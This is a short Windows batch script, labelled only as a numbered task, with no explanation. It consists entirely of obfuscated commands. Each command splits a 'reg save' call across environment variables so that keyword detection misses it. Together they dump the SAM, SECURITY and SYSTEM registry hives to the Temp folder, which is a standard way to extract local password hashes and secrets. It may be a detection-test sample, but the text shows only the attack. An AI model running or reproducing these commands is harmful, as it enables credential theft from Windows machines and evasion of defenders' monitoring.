REM task 0823 v2
cmd /v:on /c "set mom0=reg save hklm\sam C:\Window&&set int1=s\Temp\sa&&set nyf2=m.save&&!mom0!!int1!!nyf2!"
cmd /v:on /c "set ggy0=reg save hklm\security C:\Windows\Temp\security.sav&&set kjy1=e&&!ggy0!!kjy1!"
cmd /v:on /c "set jdn0=r&&set dmz1=eg save hkl&&set okn2=m\system C:\Windows\Temp\syst&&set pix3=em.save&&!jdn0!!dmz1!!okn2!!pix3!"
